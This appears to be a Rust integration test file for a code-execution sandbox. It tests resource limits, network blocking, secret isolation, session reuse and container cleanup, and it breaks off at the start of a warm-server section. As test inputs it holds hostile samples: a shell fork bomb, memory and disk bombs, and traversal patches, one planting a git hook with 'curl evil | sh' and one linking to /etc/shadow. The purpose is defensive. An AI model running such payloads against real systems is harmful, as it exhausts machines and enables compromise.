//! The sandboxes against a real Docker engine and real interpreters: the escape suite (fork
//! bomb, memory bomb, disk fill, endless output, network, host secrets, patches through
//! symlinks and `..`), per-test outcomes of real Python, Node.js and Go projects, session
//! reuse and isolation, and container cleanup on every path. Docker tests need the engine
//! from `scripts/dev-services.sh up`; the Python base image is built once, on first use, by
//! `scripts/build-base-images.sh python` (skipped when it exists).

use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail, ensure};
use patch::{Edit, PatchLimits, Refusal};
use proto::messages::{TestOutcome, TestStatus};
use sandbox::{
    self, DockerSandbox, Limits, LocalSandbox, RunResult, RunSpec, Sandbox, Session,
    detect_project, parse_outcomes,
};

const PYTHON_IMAGE: &str = "coval/python:bookworm";

fn repo_root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .map(Path::to_path_buf)
        .unwrap_or_default()
}

fn fixture(name: &str) -> PathBuf {
    repo_root().join("tests/fixtures/projects").join(name)
}

/// `None` (the test is skipped, loudly) only when the run asked for no Docker.
async fn docker() -> Result<Option<DockerSandbox>> {
    if std::env::var("COVAL_SKIP_DOCKER").as_deref() == Ok("1") {
        eprintln!("COVAL_SKIP_DOCKER=1: skipping a Docker sandbox test");
        return Ok(None);
    }
    coval_tests::ensure_python_image()?;
    let sb = DockerSandbox::connect("")
        .await
        .context("the Docker engine must answer: run `scripts/dev-services.sh up`")?;
    Ok(Some(sb))
}

fn limits() -> Limits {
    Limits {
        memory_bytes: 192 << 20,
        pids: 64,
        cpus: 1.0,
        output_bytes: 64 << 10,
        tmpfs_bytes: 32 << 20,
        nofile: 256,
    }
}

fn spec(dir: &Path, argv: &[&str], timeout_secs: u64) -> RunSpec {
    let mut s = RunSpec::new(dir, argv.iter().map(|a| (*a).to_owned()).collect());
    s.limits = limits();
    s.timeout = Duration::from_secs(timeout_secs);
    s.image = PYTHON_IMAGE.into();
    s
}

fn empty_project() -> Result<tempfile::TempDir> {
    let d = tempfile::tempdir()?;
    std::fs::write(d.path().join("README"), "an empty project\n")?;
    Ok(d)
}

/// No container of this sandbox is left, running or not.
async fn assert_no_containers(sb: &DockerSandbox) -> Result<()> {
    let left = sb.containers().await?;
    ensure!(left.is_empty(), "containers left behind: {left:?}");
    Ok(())
}

fn report(backend: &str, what: &str, r: &RunResult) {
    eprintln!(
        "[escape] {backend:6} {what:22} verdict: {} ({:.2} s)",
        r.verdict(),
        r.duration.as_secs_f64()
    );
}

fn tree_snapshot(dir: &Path) -> Result<Vec<(PathBuf, Vec<u8>)>> {
    let mut out = vec![];
    fn walk(root: &Path, d: &Path, out: &mut Vec<(PathBuf, Vec<u8>)>) -> Result<()> {
        for e in std::fs::read_dir(d)? {
            let e = e?;
            let p = e.path();
            let m = std::fs::symlink_metadata(&p)?;
            let rel = p.strip_prefix(root)?.to_path_buf();
            if m.is_dir() {
                out.push((rel, vec![]));
                walk(root, &p, out)?;
            } else if m.file_type().is_symlink() {
                out.push((
                    rel,
                    std::fs::read_link(&p)?
                        .into_os_string()
                        .into_encoded_bytes(),
                ));
            } else {
                out.push((rel, std::fs::read(&p)?));
            }
        }
        Ok(())
    }
    walk(dir, dir, &mut out)?;
    out.sort();
    Ok(out)
}

// ---------------------------------------------------------------- escape suite

const FORK_COUNTER: &str = r#"
import os, sys, time
n = 0
while True:
    try:
        pid = os.fork()
    except OSError as e:
        print(f"fork refused after {n} children: {e}", flush=True)
        break
    if pid == 0:
        time.sleep(300)
        os._exit(0)
    n += 1
"#;

fn forks_refused_after(r: &RunResult) -> Result<u32> {
    let line = r
        .stdout
        .lines()
        .find(|l| l.starts_with("fork refused after "))
        .with_context(|| format!("no fork refusal in the output: {r:?}"))?;
    Ok(line
        .trim_start_matches("fork refused after ")
        .split(' ')
        .next()
        .unwrap_or("")
        .parse()?)
}

async fn fork_bomb(sb: &impl Sandbox, backend: &str) -> Result<()> {
    let dir = empty_project()?;
    // Counted: fork until the kernel refuses, then exit and leave 300 s sleepers behind.
    let r = sb
        .run(&spec(dir.path(), &["python3", "-c", FORK_COUNTER], 60))
        .await?;
    report(backend, "fork bomb (counted)", &r);
    let n = forks_refused_after(&r)?;
    ensure!(
        n < limits().pids,
        "{n} forks succeeded with a pids limit of {}",
        limits().pids
    );
    ensure!(r.exit_code == Some(0), "{}", r.verdict());
    // The sleepers were killed with the run, not waited for.
    ensure!(
        r.duration < Duration::from_secs(30),
        "took {:?}",
        r.duration
    );
    // Classic: forks forever until the timeout. The shell itself keeps going when the bomb
    // has used up every process it may have: it forks once, for the bomb, and then loops on
    // builtins (dash exits when a fork fails, and `b | b &` run by the shell itself forks twice:
    // the first child's bomb could use up the processes before the second fork).
    let r = sb
        .run(&spec(
            dir.path(),
            &[
                "sh",
                "-c",
                "exec 2>/dev/null; b() { b | b & }; b & while :; do :; done",
            ],
            4,
        ))
        .await?;
    report(backend, "fork bomb (shell)", &r);
    ensure!(r.timed_out, "{}", r.verdict());
    ensure!(r.verdict() == "killed after 4 s timeout", "{}", r.verdict());
    ensure!(
        r.duration < Duration::from_secs(25),
        "took {:?}",
        r.duration
    );
    Ok(())
}

const MEMORY_BOMB: &str = r#"
a = []
while True:
    a.append(b"x" * (16 << 20))
"#;

async fn memory_bomb(sb: &impl Sandbox, backend: &str) -> Result<()> {
    let dir = empty_project()?;
    let r = sb
        .run(&spec(dir.path(), &["python3", "-c", MEMORY_BOMB], 60))
        .await?;
    report(backend, "memory bomb", &r);
    ensure!(r.oom_killed, "not reported as out of memory: {r:?}");
    ensure!(r.verdict() == "killed: out of memory", "{}", r.verdict());
    ensure!(!r.success());
    Ok(())
}

const DISK_FILL: &str = r#"
import errno, os
written = 0
chunk = b"x" * (1 << 20)
try:
    with open("fill.bin", "wb") as f:
        while written < (1 << 30):
            f.write(chunk)
            f.flush()
            written += len(chunk)
    print("WROTE 1 GiB: not capped")
except OSError as e:
    print(f"write failed after {written >> 20} MiB: {errno.errorcode.get(e.errno)}")
try:
    open("/usr/evil", "w").write("x")
    print("ROOT WRITABLE")
except OSError as e:
    print(f"root fs: {errno.errorcode.get(e.errno)}")
"#;

async fn disk_fill(sb: &impl Sandbox, backend: &str) -> Result<()> {
    let dir = empty_project()?;
    let before = tree_snapshot(dir.path())?;
    let r = sb
        .run(&spec(dir.path(), &["python3", "-c", DISK_FILL], 60))
        .await?;
    report(backend, "disk fill", &r);
    let line = r
        .stdout
        .lines()
        .find(|l| l.starts_with("write failed after") || l.starts_with("WROTE"))
        .with_context(|| format!("unexpected output: {r:?}"))?;
    eprintln!(
        "[escape] {backend:6} disk fill: {}",
        r.stdout.trim().replace('\n', "; ")
    );
    ensure!(line.starts_with("write failed after"), "{line}");
    let mib: u64 = line
        .split_whitespace()
        .nth(3)
        .unwrap_or("")
        .parse()
        .context("MiB count")?;
    ensure!(
        mib <= limits().tmpfs_bytes >> 20,
        "wrote {mib} MiB past a {} MiB cap",
        limits().tmpfs_bytes >> 20
    );
    // Docker: the tmpfs is full; local: the file-size limit.
    ensure!(
        line.ends_with("ENOSPC") || line.ends_with("EFBIG"),
        "{line}"
    );
    ensure!(!r.stdout.contains("ROOT WRITABLE"), "{}", r.stdout);
    ensure!(
        tree_snapshot(dir.path())? == before,
        "the host copy changed"
    );
    ensure!(
        !Path::new("/usr/evil").exists(),
        "/usr/evil appeared on the host"
    );
    Ok(())
}

async fn endless_output(sb: &impl Sandbox, backend: &str) -> Result<()> {
    let dir = empty_project()?;
    let t0 = Instant::now();
    let r = sb
        .run(&spec(dir.path(), &["yes", "all work and no play"], 60))
        .await?;
    report(backend, "endless output", &r);
    ensure!(r.output_truncated, "{r:?}");
    ensure!(
        r.verdict() == "output capped at 64 KiB; process killed",
        "{}",
        r.verdict()
    );
    ensure!(r.stdout.len() + r.stderr.len() <= 64 << 10);
    ensure!(
        !r.timed_out && t0.elapsed() < Duration::from_secs(30),
        "took {:?}",
        t0.elapsed()
    );
    Ok(())
}

const CONNECT: &str = r#"
import socket, sys
try:
    s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=3)
    s.sendall(b"leak")
    print("CONNECTED")
except OSError as e:
    print(f"blocked: {e}")
"#;

const LOOPBACK: &str = r#"
import socket
srv = socket.create_server(("localhost", 0))
c = socket.create_connection(("localhost", srv.getsockname()[1]), timeout=3)
c.sendall(b"ping")
conn, _ = srv.accept()
print("LOOPBACK", conn.recv(4).decode())
"#;

/// Tests may serve and connect on the sandbox's own loopback, by the name `localhost`.
async fn own_loopback(sb: &impl Sandbox, backend: &str) -> Result<()> {
    let dir = empty_project()?;
    let r = sb
        .run(&spec(dir.path(), &["python3", "-c", LOOPBACK], 30))
        .await?;
    report(backend, "its own loopback", &r);
    ensure!(
        r.stdout.contains("LOOPBACK ping"),
        "{backend}: a test cannot use localhost inside the sandbox: {}{}",
        r.stdout,
        r.stderr
    );
    Ok(())
}

/// Returns whether the sandbox blocked the connection.
async fn network(sb: &impl Sandbox, backend: &str) -> Result<bool> {
    let dir = empty_project()?;
    let listener = TcpListener::bind("127.0.0.1:0")?;
    listener.set_nonblocking(true)?;
    let port = listener.local_addr()?.port().to_string();
    let r = sb
        .run(&spec(dir.path(), &["python3", "-c", CONNECT, &port], 30))
        .await?;
    report(backend, "network to 127.0.0.1", &r);
    let accepted = match listener.accept() {
        Ok(_) => true,
        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => false,
        Err(e) => return Err(e.into()),
    };
    eprintln!(
        "[escape] {backend:6} network: {} (listener accepted: {accepted})",
        r.stdout.trim()
    );
    let said_blocked = r.stdout.contains("blocked:");
    ensure!(
        accepted != said_blocked,
        "listener and sandbox disagree: accepted={accepted}, output={}",
        r.stdout
    );
    Ok(!accepted)
}

async fn patch_escapes(backend: &str) -> Result<()> {
    let outside = tempfile::tempdir()?;
    let secret = outside.path().join("secret.txt");
    std::fs::write(&secret, "do not touch\n")?;
    let project = tempfile::tempdir()?;
    std::fs::write(project.path().join("app.py"), "x = 1\n")?;
    std::os::unix::fs::symlink(&secret, project.path().join("link.txt"))?;
    std::os::unix::fs::symlink(outside.path(), project.path().join("linkdir"))?;
    std::fs::hard_link(&secret, project.path().join("hard.txt"))?;
    let before = tree_snapshot(project.path())?;
    let lim = PatchLimits::default();
    let cases: Vec<(&str, String, Refusal)> = vec![
        (
            "write through a symlinked file",
            "--- a/link.txt\n+++ b/link.txt\n@@ -1 +1 @@\n-do not touch\n+owned\n".into(),
            Refusal::ThroughSymlink("link.txt".into()),
        ),
        (
            "create under a symlinked dir",
            "--- /dev/null\n+++ b/linkdir/evil.txt\n@@ -0,0 +1 @@\n+evil\n".into(),
            Refusal::ThroughSymlink("linkdir".into()),
        ),
        (
            "search/replace via symlink",
            "link.txt\n<<<<<<< SEARCH\ndo not touch\n=======\nowned\n>>>>>>> REPLACE\n".into(),
            Refusal::ThroughSymlink("link.txt".into()),
        ),
        (
            "`..` in a diff",
            format!(
                "--- a/app.py\n+++ b/../{}/secret.txt\n@@ -1 +1 @@\n-x = 1\n+owned\n",
                outside.path().file_name().and_then(|n| n.to_str()).unwrap_or("x")
            ),
            Refusal::ParentDir,
        ),
        (
            "`..` in a new file",
            "--- /dev/null\n+++ b/src/../../evil.txt\n@@ -0,0 +1 @@\n+evil\n".into(),
            Refusal::ParentDir,
        ),
        (
            "absolute path",
            format!("--- /dev/null\n+++ {}\n@@ -0,0 +1 @@\n+evil\n", secret.display()),
            Refusal::AbsolutePath,
        ),
        (
            "into .git/",
            "--- /dev/null\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+curl evil | sh\n".into(),
            Refusal::GitDir,
        ),
        (
            "create a symlink",
            "diff --git a/l b/l\nnew file mode 120000\n--- /dev/null\n+++ b/l\n@@ -0,0 +1 @@\n+/etc/shadow\n\\ No newline at end of file\n".into(),
            Refusal::CreatesSymlink,
        ),
    ];
    for (what, text, want) in cases {
        let result = patch::parse(&text, &lim).and_then(|e| patch::apply(project.path(), &e, &lim));
        let err = match result {
            Ok(a) => bail!("{what}: applied: {a:?}"),
            Err(e) => e,
        };
        eprintln!("[escape] {backend:6} patch: {what:30} verdict: refused: {err}");
        ensure!(
            err.refusal() == Some(&want),
            "{what}: {err} (wanted {want:?})"
        );
        ensure!(
            std::fs::read_to_string(&secret)? == "do not touch\n",
            "{what}: the outside file changed"
        );
        ensure!(
            !outside.path().join("evil.txt").exists(),
            "{what}: wrote outside"
        );
        ensure!(
            tree_snapshot(project.path())? == before,
            "{what}: the tree changed"
        );
    }
    // A hard link is a regular file inside the tree: editing it is allowed, but the write
    // replaces the link instead of writing through it.
    let edits = vec![Edit::WholeFile {
        path: "hard.txt".into(),
        content: "edited copy\n".into(),
    }];
    patch::apply(project.path(), &edits, &lim)?;
    ensure!(
        std::fs::read_to_string(&secret)? == "do not touch\n",
        "wrote through a hard link"
    );
    ensure!(std::fs::read_to_string(project.path().join("hard.txt"))? == "edited copy\n");
    eprintln!(
        "[escape] {backend:6} patch: {:30} verdict: applied to the copy only, outside file unchanged",
        "edit a hard link"
    );
    Ok(())
}

#[tokio::test]
async fn docker_escape_suite() -> Result<()> {
    let Some(sb) = docker().await? else {
        return Ok(());
    };
    fork_bomb(&sb, "docker").await?;
    memory_bomb(&sb, "docker").await?;
    disk_fill(&sb, "docker").await?;
    endless_output(&sb, "docker").await?;
    ensure!(
        network(&sb, "docker").await?,
        "docker let a connection through"
    );
    own_loopback(&sb, "docker").await?;
    patch_escapes("docker").await?;
    assert_no_containers(&sb).await
}

#[tokio::test]
async fn local_escape_suite() -> Result<()> {
    let sb = LocalSandbox::new();
    eprintln!("{}", sb.notice());
    ensure!(sb.notice().contains("isolates less"), "{}", sb.notice());
    coval_tests::ensure_host_pytest()?; // the python3 a per-run user can execute
    // As root, each run has a user of its own (root itself ignores RLIMIT_NPROC); otherwise the
    // limit is the user's current process count plus the run's allowance.
    fork_bomb(&sb, "local").await?;
    memory_bomb(&sb, "local").await?;
    disk_fill(&sb, "local").await?;
    endless_output(&sb, "local").await?;
    let blocked = network(&sb, "local").await?;
    if sb.network_isolated() {
        ensure!(
            blocked,
            "a new network namespace was reported but the connection went through"
        );
    } else {
        ensure!(
            !blocked && sb.notice().contains("network NOT blocked"),
            "{}",
            sb.notice()
        );
        eprintln!("[escape] local  network: NOT blocked here (no network namespace allowed)");
    }
    own_loopback(&sb, "local").await?;
    patch_escapes("local").await
}

/// Runs `secret_env_probe` in a child test process whose environment holds a secret.
#[test]
fn host_secrets_are_not_visible_inside() -> Result<()> {
    let secret = format!("s3cret-{}", std::process::id());
    let out = Command::new(std::env::current_exe()?)
        .args([
            "--exact",
            "sandbox::secret_env_probe",
            "--ignored",
            "--nocapture",
            "--test-threads=1",
        ])
        .env("COVAL_TEST_SECRET", &secret)
        .output()?;
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    eprintln!("{stderr}");
    ensure!(
        out.status.success(),
        "the probe failed:\n{stdout}\n{stderr}"
    );
    ensure!(
        stdout.contains("1 passed"),
        "the probe did not run:\n{stdout}"
    );
    Ok(())
}

#[tokio::test]
#[ignore = "run by host_secrets_are_not_visible_inside with a secret in its environment"]
async fn secret_env_probe() -> Result<()> {
    let Ok(secret) = std::env::var("COVAL_TEST_SECRET") else {
        return Ok(());
    };
    let dir = empty_project()?;
    let mut s = spec(
        dir.path(),
        &[
            "sh",
            "-c",
            "env; test -w /var/run/docker.sock && echo DOCKER SOCKET",
        ],
        30,
    );
    s.env = vec![
        ("PATH".into(), "/usr/bin:/bin".into()),
        ("ONLY_THIS".into(), "1".into()),
    ];
    let check = |backend: &str, r: &RunResult, isolated_fs: bool| -> Result<()> {
        eprintln!(
            "[escape] {backend:6} {:22} verdict: {}; env inside: {:?}",
            "host secret env",
            r.verdict(),
            r.stdout.lines().collect::<Vec<_>>()
        );
        ensure!(
            !r.stdout.contains(&secret) && !r.stdout.contains("COVAL_TEST_SECRET"),
            "the secret leaked: {}",
            r.stdout
        );
        // The local sandbox shares the file system: only a user of its own keeps it out.
        ensure!(
            !isolated_fs || !r.stdout.contains("DOCKER SOCKET"),
            "the Docker socket is usable"
        );
        let mut vars: Vec<&str> = r.stdout.lines().filter(|l| l.contains('=')).collect();
        vars.sort();
        // `sh` adds PWD itself; everything else must be exactly the spec's env, except that
        // the local sandbox may put its `python` shim last on the PATH (where the machine has
        // only python3).
        vars.retain(|v| !v.starts_with("PWD="));
        let path_ok = |v: &str| {
            v == "PATH=/usr/bin:/bin"
                || backend == "local"
                    && v.strip_prefix("PATH=/usr/bin:/bin:").is_some_and(|shim| {
                        shim.contains("/coval-python-shim-") && !shim.contains(':')
                    })
        };
        ensure!(
            vars.len() == 2 && vars[0] == "ONLY_THIS=1" && path_ok(vars[1]),
            "unexpected environment: {vars:?}"
        );
        Ok(())
    };
    if let Some(sb) = docker().await? {
        let r = sb.run(&s).await?;
        check("docker", &r, true)?;
        assert_no_containers(&sb).await?;
    }
    let local = LocalSandbox::new();
    let r = local.run(&s).await?;
    check("local", &r, local.separate_user())
}

// ---------------------------------------------------------------- per-test outcomes

fn calc_outcomes(kind_names: &[(&str, TestStatus)]) -> Vec<TestOutcome> {
    kind_names
        .iter()
        .map(|(n, s)| TestOutcome {
            name: (*n).to_owned(),
            status: *s,
        })
        .collect()
}

async fn run_project(sb: &impl Sandbox, dir: &Path) -> Result<(RunResult, Vec<TestOutcome>)> {
    let kind = detect_project(dir).context("no project detected")?;
    let mut s = spec(dir, &[], 120);
    s.argv = kind.test_cmd.clone();
    s.collect = kind.reports.clone();
    s.limits.memory_bytes = 1 << 30;
    s.limits.pids = 256;
    s.limits.tmpfs_bytes = 256 << 20;
    s.limits.output_bytes = 1 << 20;
    let r = sb.run(&s).await?;
    let outcomes = parse_outcomes(&kind, &r);
    eprintln!("{}: {} → {outcomes:?}", dir.display(), r.verdict());
    Ok((r, outcomes))
}

#[tokio::test]
async fn python_outcomes_in_docker() -> Result<()> {
    let Some(sb) = docker().await? else {
        return Ok(());
    };
    let (r, t) = run_project(&sb, &fixture("python-calc")).await?;
    ensure!(r.exit_code == Some(1), "{r:?}");
    ensure!(
        t == calc_outcomes(&[
            ("tests/test_calc.py::test_add", TestStatus::Passed),
            ("tests/test_calc.py::test_div", TestStatus::Failed),
        ]),
        "{t:?}\n{r:?}"
    );
    assert_no_containers(&sb).await
}

#[tokio::test]
async fn python_outcomes_locally() -> Result<()> {
    coval_tests::ensure_host_pytest()?;
    let (r, t) = run_project(&LocalSandbox::new(), &fixture("python-calc")).await?;
    ensure!(
        t == calc_outcomes(&[
            ("tests/test_calc.py::test_add", TestStatus::Passed),
            ("tests/test_calc.py::test_div", TestStatus::Failed),
        ]),
        "{t:?}\n{r:?}"
    );
    Ok(())
}

#[tokio::test]
async fn node_outcomes_locally() -> Result<()> {
    let (r, t) = run_project(&LocalSandbox::new(), &fixture("node-calc")).await?;
    ensure!(r.exit_code == Some(1), "{r:?}");
    ensure!(
        t == calc_outcomes(&[
            ("adds", TestStatus::Passed),
            ("divides", TestStatus::Failed)
        ]),
        "{t:?}\n{r:?}"
    );
    Ok(())
}

#[tokio::test]
async fn go_outcomes_locally() -> Result<()> {
    let (r, t) = run_project(&LocalSandbox::new(), &fixture("go-calc")).await?;
    ensure!(r.exit_code == Some(1), "{r:?}");
    ensure!(
        t == calc_outcomes(&[
            ("example.com/calc::TestAdd", TestStatus::Passed),
            ("example.com/calc::TestDiv", TestStatus::Failed),
        ]),
        "{t:?}\n{r:?}"
    );
    Ok(())
}

/// Node.js and Go in their own images (this builds `coval/node` and `coval/go` when missing,
/// about 40 s and 60 s on a clean machine).
#[tokio::test]
async fn node_and_go_outcomes_in_docker() -> Result<()> {
    let Some(sb) = docker().await? else {
        return Ok(());
    };
    let out = Command::new(repo_root().join("scripts/build-base-images.sh"))
        .args(["node", "go"])
        .output()?;
    ensure!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    for (fixture_name, image, want) in [
        (
            "node-calc",
            "coval/node:bookworm",
            calc_outcomes(&[
                ("adds", TestStatus::Passed),
                ("divides", TestStatus::Failed),
            ]),
        ),
        (
            "go-calc",
            "coval/go:bookworm",
            calc_outcomes(&[
                ("example.com/calc::TestAdd", TestStatus::Passed),
                ("example.com/calc::TestDiv", TestStatus::Failed),
            ]),
        ),
    ] {
        let dir = fixture(fixture_name);
        let kind = detect_project(&dir).context("no project detected")?;
        let mut s = spec(&dir, &[], 300);
        s.argv = kind.test_cmd.clone();
        s.image = image.into();
        s.limits.memory_bytes = 1 << 30;
        s.limits.pids = 512;
        s.limits.tmpfs_bytes = 512 << 20;
        s.limits.output_bytes = 1 << 20;
        let r = sb.run(&s).await?;
        let t = parse_outcomes(&kind, &r);
        eprintln!(
            "{fixture_name} in {image}: {} ({:.1} s) → {t:?}",
            r.verdict(),
            r.duration.as_secs_f64()
        );
        ensure!(t == want, "{t:?}\n{r:?}");
    }
    assert_no_containers(&sb).await
}

/// The failing fixture, fixed by a real patch applied to a copy, passes in the sandbox.
#[tokio::test]
async fn patched_copy_passes_in_docker() -> Result<()> {
    let Some(sb) = docker().await? else {
        return Ok(());
    };
    let work = tempfile::tempdir()?;
    let copy = work.path().join("calc");
    let fix = "diff --git a/calc.py b/calc.py\n--- a/calc.py\n+++ b/calc.py\n@@ -7,2 +7,2 @@ def add(a, b):\n def div(a, b):\n-    return a * b\n+    return a / b\n";
    let lim = PatchLimits::default();
    let applied = patch::apply_to_copy(
        &fixture("python-calc"),
        &copy,
        &patch::parse(fix, &lim)?,
        &lim,
    )?;
    ensure!(applied.changed_lines == 2, "{applied:?}");
    let (r, t) = run_project(&sb, &copy).await?;
    ensure!(r.success(), "{r:?}");
    ensure!(
        t.iter().all(|o| o.status == TestStatus::Passed) && t.len() == 2,
        "{t:?}"
    );
    assert_no_containers(&sb).await
}

// ---------------------------------------------------------------- sessions

const SESSION_PROBE: &str = r#"
import os, subprocess, sys
me = open("cand.txt").read().strip()
problems = []
here = os.path.basename(os.getcwd())
others = [d for d in os.listdir("/work") if d != here]
if others:
    problems.append(f"other work dirs visible: {others}")
for p in ["/tmp/leak.txt", "/dev/shm/leak.txt", "leak.txt", "/tmp/late.txt"]:
    if os.path.exists(p):
        problems.append(f"{p} exists: {open(p).read().strip()}")
for p in ["/tmp/leak.txt", "/dev/shm/leak.txt", "leak.txt"]:
    with open(p, "w") as f:
        f.write(me)
# A process that outlives the candidate and would write into a later one.
subprocess.Popen(["sh", "-c", "sleep 0.4; echo " + me + " > /tmp/late.txt"], start_new_session=True)
print("\n".join(problems) or f"candidate {me}: clean")
sys.exit(1 if problems else 0)
"#;

#[tokio::test]
async fn docker_session_isolates_ten_candidates() -> Result<()> {
    let Some(sb) = docker().await? else {
        return Ok(());
    };
    let template = spec(Path::new("/nonexistent"), &["true"], 30);
    let mut session = sb.open_session(&template).await?;
    ensure!(
        sb.containers().await?.len() == 1,
        "a session is one container"
    );
    let work = tempfile::tempdir()?;
    let mut times = vec![];
    for i in 1..=10 {
        let dir = work.path().join(format!("cand{i}"));
        std::fs::create_dir(&dir)?;
        std::fs::write(dir.join("cand.txt"), format!("{i}\n"))?;
        let r = session
            .run(
                &dir,
                &["python3".into(), "-c".into(), SESSION_PROBE.into()],
                Duration::from_secs(30),
            )
            .await?;
        eprintln!("candidate {i}: {} {}", r.verdict(), r.stdout.trim());
        ensure!(
            r.success(),
            "candidate {i} saw another candidate's traces: {}{}",
            r.stdout,
            r.stderr
        );
        times.push(r.duration.as_secs_f64());
        // Between candidates, a late writer would have had time to strike.
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    ensure!(
        sb.containers().await?.len() == 1,
        "still one container for ten candidates"
    );
    eprintln!(
        "session: {:.3} s per candidate (min {:.3}, max {:.3})",
        times.iter().sum::<f64>() / times.len() as f64,
        times.iter().cloned().fold(f64::MAX, f64::min),
        times.iter().cloned().fold(0.0, f64::max)
    );
    session.close().await?;
    assert_no_containers(&sb).await
}

#[tokio::test]
async fn docker_session_survives_timeouts_floods_and_oom() -> Result<()> {
    let Some(sb) = docker().await? else {
        return Ok(());
    };
    let dir = empty_project()?;
    let mut session = sb.open_session(&spec(dir.path(), &["true"], 30)).await?;
    let run = |argv: &[&str]| argv.iter().map(|a| (*a).to_owned()).collect::<Vec<_>>();
    let r = session
        .run(
            dir.path(),
            &run(&["sh", "-c", "sleep 100 & sleep 100"]),
            Duration::from_secs(2),
        )
        .await?;
    eprintln!("session timeout: {}", r.verdict());
    ensure!(
        r.timed_out && r.verdict() == "killed after 2 s timeout",
        "{r:?}"
    );
    ensure!(r.duration < Duration::from_secs(15), "{:?}", r.duration);
    let r = session
        .run(dir.path(), &run(&["yes"]), Duration::from_secs(30))
        .await?;
    eprintln!("session flood: {}", r.verdict());
    ensure!(r.output_truncated && !r.timed_out, "{r:?}");
    let r = session
        .run(
            dir.path(),
            &run(&["python3", "-c", MEMORY_BOMB]),
            Duration::from_secs(30),
        )
        .await?;
    eprintln!("session memory bomb: {}", r.verdict());
    ensure!(r.oom_killed, "{r:?}");
    let r = session
        .run(
            dir.path(),
            &run(&["sh", "-c", "echo still here; ls /work | wc -l"]),
            Duration::from_secs(30),
        )
        .await?;
    ensure!(r.success() && r.stdout == "still here\n1\n", "{r:?}");
    // The next run after an OOM kill is not reported as one.
    ensure!(!r.oom_killed, "{r:?}");
    session.close().await?;
    assert_no_containers(&sb).await
}

#[tokio::test]
async fn local_session_isolates_candidates() -> Result<()> {
    let sb = LocalSandbox::new();
    let dir = empty_project()?;
    let mut session = Sandbox::open_session(&sb, &spec(dir.path(), &["true"], 30)).await?;
    let script = "test -e leak.txt && echo LEAK; test -e \"$TMPDIR/leak.txt\" && echo TMPLEAK; touch leak.txt \"$TMPDIR/leak.txt\"; echo ok";
    for _ in 0..3 {
        let r = session
            .run(
                dir.path(),
                &["sh".into(), "-c".into(), script.into()],
                Duration::from_secs(10),
            )
            .await?;
        ensure!(r.stdout == "ok\n", "{r:?}");
    }
    ensure!(
        !dir.path().join("leak.txt").exists(),
        "the source dir was written"
    );
    session.close().await?;
    Ok(())
}

// ---------------------------------------------------------------- cleanup and detection

/// A run whose future is dropped mid-way (a cancelled repair) still removes its container.
#[tokio::test]
async fn cancelled_run_removes_its_container() -> Result<()> {
    let Some(sb) = docker().await? else {
        return Ok(());
    };
    let dir = empty_project()?;
    let s = spec(dir.path(), &["sleep", "60"], 120);
    let cancelled = tokio::time::timeout(Duration::from_secs(3), sb.run(&s)).await;
    ensure!(cancelled.is_err(), "the run should still be going");
    assert_no_containers(&sb).await
}

/// A session dropped without `close`, or dropped by a panicking task, removes its container.
#[tokio::test]
async fn dropped_and_panicked_sessions_remove_their_containers() -> Result<()> {
    let Some(sb) = docker().await? else {
        return Ok(());
    };
    let dir = empty_project()?;
    let template = spec(dir.path(), &["true"], 10);
    let session = sb.open_session(&template).await?;
    ensure!(sb.containers().await?.len() == 1);
    drop(session);
    assert_no_containers(&sb).await?;
    let sb2 = sb.clone();
    let task = tokio::spawn(async move {
        let _session = sb2.open_session(&template).await;
        panic!("a stage crashed while holding a session");
    });
    ensure!(
        task.await.is_err_and(|e| e.is_panic()),
        "the task should have panicked"
    );
    assert_no_containers(&sb).await
}

#[tokio::test]
async fn missing_image_says_how_to_build_it() -> Result<()> {
    let Some(sb) = docker().await? else {
        return Ok(());
    };
    let dir = empty_project()?;
    let mut s = spec(dir.path(), &["true"], 10);
    s.image = "coval/ruby:bookworm".into();
    let e = sb.run(&s).await.err().context("ran without an image")?;
    ensure!(
        e.to_string().contains("scripts/build-base-images.sh ruby"),
        "{e}"
    );
    assert_no_containers(&sb).await
}

#[tokio::test]
async fn detect_prefers_docker_and_honours_the_config() -> Result<()> {
    let cfg = settings::load(&settings::LoadOptions {
        cwd: tempfile::tempdir()?.path().to_owned(),
        ..Default::default()
    })?;
    let mut sc = cfg.settings.sandbox.clone();
    if docker().await?.is_some() {
        let d = sandbox::detect(&sc).await?;
        eprintln!("detect: {} ({})", d.sandbox.name(), d.reason);
        ensure!(
            d.sandbox.name() == "docker" && d.reason.contains(PYTHON_IMAGE),
            "{}",
            d.reason
        );
        let d = sandbox::detect_for(&sc, vocab::Language::Php).await?;
        ensure!(
            d.sandbox.name() == "local",
            "no php image is configured: {}",
            d.reason
        );
    }
    sc.backend = settings::SandboxBackend::Local;
    let d = sandbox::detect(&sc).await?;
    ensure!(
        d.sandbox.name() == "local" && d.sandbox.notice().is_some(),
        "{}",
        d.reason
    );
    Ok(())
}

// ---------------------------------------------------------------- warm test server

/// A pytest project in a temp dir: a pyproject.toml, `calc.py`, and `files`.
/// Writes `files` (relative path, text) under `root`, making their directories.
fn write_files(root: &Path, files: &[(&str, &str)]) -> Result<()> {
    for (name, text) in files {
        let p = root.join(name);
        if let Some(parent) = p.parent() {
            std::fs::create_dir_all(parent)?;
        }
        std::fs::write(p, text)?;
    }
    Ok(())
}

fn pytest_project(files: &[(&str, &str)]) -> Result<tempfile::TempDir> {
    let d = tempfile::tempdir()?;
    std::fs::write(
        d.path().join("pyproject.toml"),
        "[tool.pytest.ini_options]\ntestpaths = [\"tests\"]\npythonpath = [\".\"]\n",
    )?;
    std::fs::write(
        d.path().join("calc.py"),
        "def add(a, b):\n    return a + b\n",
    )?;
    write_files(d.path(), files)?;
    Ok(d)
}

const MIXED_TESTS: &str = r#"
import pytest
from calc import add

@pytest.fixture
def broken():
    raise RuntimeError("the fixture fails")

def test_pass():
    assert add(1, 2) == 3

def test_fail():
    assert add(1, 2) == 4

def test_error(broken):
    pass

def test_skip():
    pytest.skip("not here")
"#;

/// The session template for pytest projects: the detected command, its JUnit report collected.
